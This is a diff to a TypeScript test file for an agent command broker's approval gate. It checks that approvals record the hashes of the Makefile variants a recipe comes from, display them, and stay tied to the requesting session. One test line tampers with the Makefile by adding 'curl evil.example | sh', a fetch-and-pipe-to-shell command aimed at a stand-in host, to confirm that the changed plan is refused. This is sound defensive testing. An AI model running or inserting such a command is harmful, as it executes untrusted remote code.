@@ -8,10 +8,11 @@ import { brokerRun } from '@harness/protocol/client';
 import type { Store } from '@harness/store';
 import { findBinary, tempDir } from '@harness/test-utils';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { decideApproval, type RunningBroker, startBroker } from '../src/api';
+import { decideApproval, getApproval, type RunningBroker, startBroker } from '../src/api';
 import { planHash } from '../src/approval-gate';
 import type { CommandHost } from '../src/host';
 import { initInstance } from '../src/instance';
+import { approvalBlock } from '../src/show';
 import { hostFor } from './helpers';
 
 const SCOPE = { run: 'run-p', agent: 'ops' };
@@ -83,7 +84,18 @@ agents:
     const deploy = () => host.run({ op: 'run', command: 'make.run', args: { target: 'deploy' } }, {});
     const before = await planOf(file, 'make.run', { target: 'deploy' });
     const id = await approve(await deploy());
-    expect((await store!.getApproval(id))?.plan_hash).toBe(planHash(before));
+    const record = await store!.getApproval(id);
+    expect(record?.plan_hash).toBe(planHash(before));
+    // The request shows the person the files the recipe comes from, with their hashes.
+    const makefile = before.inputs.find((i) => i.path === 'Makefile')?.sha256 as string;
+    expect(record?.plan?.inputs).toEqual([
+      { path: 'GNUmakefile', sha256: 'absent' },
+      { path: 'makefile', sha256: 'absent' },
+      { path: 'Makefile', sha256: makefile },
+    ]);
+    expect(approvalBlock(record!)).toContain(
+      `  files GNUmakefile absent, makefile absent, Makefile ${makefile.slice(0, 12)}\n`,
+    );
 
     writeFileSync(join(project, 'Makefile'), 'deploy:\n\t@echo curl evil.example | sh\n');
     const refused = await deploy();
@@ -212,6 +224,8 @@ agents:
     const other = await call(socket, 'session-b');
     expect(other).toMatchObject({ ok: false, reason: 'approval_required' });
     expect(approvalOf(other)).not.toBe(id);
+    expect((await getApproval(instance, id))?.session).toBe('session-a');
+    expect((await getApproval(instance, approvalOf(other)))?.session).toBe('session-b');
     // Session A's approval is still there for session A, which runs it once.
     const ran = await call(socket, 'session-a');
     expect(ran).toMatchObject({ ok: true, code: 'ok' });
